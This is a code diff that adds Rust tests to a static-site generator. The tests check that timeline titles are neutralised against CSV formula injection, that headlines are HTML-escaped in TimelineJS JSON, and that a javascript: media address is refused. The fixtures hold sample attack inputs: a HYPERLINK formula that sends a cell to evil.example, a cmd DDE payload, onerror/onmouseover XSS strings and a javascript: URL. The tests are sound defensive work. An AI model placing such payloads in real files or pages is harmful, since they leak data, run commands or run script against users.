@@ -207,3 +207,134 @@ fn a_base_url_that_would_break_out_of_an_attribute_is_refused() {
         run.stderr
     );
 }
+
+/// The titles a spreadsheet would run as formulas (OWASP's CSV injection): in the published
+/// `timeline.csv` and in `export timelinejs` each is text, and importing the export gives back the
+/// title as written.
+#[test]
+fn a_formula_in_a_title_is_text_in_every_sheet_and_comes_back_on_import() {
+    let site = TestSite::fixture("basic");
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click — €5\")",
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3 “quoted”",
+    ];
+    for (i, title) in formulas.iter().enumerate() {
+        site.write(
+            &format!("content/timeline/2021-0{}-0{}-formula.md", i + 1, i + 1),
+            &format!(
+                "---\ndate: 2021-0{}-0{}\ntitle: {}\nera: before\nsources: [wire-one]\n---\nText.\n",
+                i + 1,
+                i + 1,
+                serde_json::to_string(title).unwrap()
+            ),
+        );
+    }
+    let run = site.build(&[]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let root = site.root.display().to_string();
+    let run = crate::common::explainer(&["export", "timelinejs", "--root", &root], &site.root);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    for sheet in [
+        site.read_output("timeline.csv"),
+        fs::read_to_string(site.root.join("timeline.csv")).unwrap(),
+    ] {
+        let mut reader = csv::ReaderBuilder::new().from_reader(sheet.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell}"
+            );
+        }
+        for title in formulas {
+            let shown = title.to_string();
+            assert!(
+                cells.contains(&format!("'{shown}")),
+                "{shown} is not in the sheet as text: {cells:?}"
+            );
+        }
+    }
+    // Back in: the same titles, without the mark that made them text.
+    for entry in fs::read_dir(site.root.join("content/timeline")).unwrap() {
+        let path = entry.unwrap().path();
+        if path
+            .file_name()
+            .unwrap()
+            .to_string_lossy()
+            .contains("formula")
+        {
+            fs::remove_file(path).unwrap();
+        }
+    }
+    let run = crate::common::explainer(
+        &["import", "timelinejs", "timeline.csv", "--root", &root],
+        &site.root,
+    );
+    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
+    let titles: String = fs::read_dir(site.root.join("content/timeline"))
+        .unwrap()
+        .map(|e| fs::read_to_string(e.unwrap().path()).unwrap())
+        .collect();
+    for title in formulas {
+        let shown = title.to_string();
+        assert!(
+            titles.contains(&format!(
+                "title: {}",
+                serde_json::to_string(&shown).unwrap()
+            )),
+            "{shown} did not come back:\n{titles}"
+        );
+    }
+}
+
+/// `timeline.json` is read by TimelineJS, which sets a headline as HTML: headlines, eras and display
+/// dates hold escaped text, and media only an address it may load.
+#[test]
+fn timeline_json_holds_text_in_headlines_and_only_safe_addresses_in_media() {
+    let site = TestSite::fixture("basic");
+    site.write(
+        "content/timeline/2021-12-09-later.md",
+        "---\ndate: 2021-12-09\ndisplay_date: \"<b onmouseover=alert(1)>Winter</b>\"\n\
+         title: \"<img src=x onerror=alert(1)> — €5bn\"\nera: after\nsources: [wire-two]\n---\nIt happened later.\n",
+    );
+    let run = site.build(&[]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let json: serde_json::Value = serde_json::from_str(&site.read_output("timeline.json")).unwrap();
+    let event = json["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["unique_id"].as_str().unwrap().contains("later"))
+        .unwrap();
+    assert_eq!(
+        event["text"]["headline"],
+        "&lt;img src=x onerror=alert(1)&gt; — €5bn"
+    );
+    assert_eq!(
+        event["display_date"],
+        "&lt;b onmouseover=alert(1)&gt;Winter&lt;/b&gt;"
+    );
+}
+
+/// An event's media, its still and the page's lead name a file or a web address, never one that
+/// runs script.
+#[test]
+fn media_with_a_script_address_is_refused_at_its_place() {
+    let site = TestSite::fixture("basic");
+    site.write(
+        "content/timeline/2021-12-09-later.md",
+        "---\ndate: 2021-12-09\ntitle: Later\nera: after\nsources: [wire-two]\nmedia:\n  src: \"https://www.youtube.com/watch?v=dQw4w9WgXcQ\"\n  thumbnail: \" JavaScript:alert(1)\"\n  alt: A still\n  credit: Wire\n---\nText.\n",
+    );
+    let run = site.build(&[]);
+    assert_eq!(run.code, Some(1), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("content/timeline/2021-12-09-later.md:8:15: error: a `javascript:` address cannot be a link"),
+        "{}",
+        run.stderr
+    );
+}
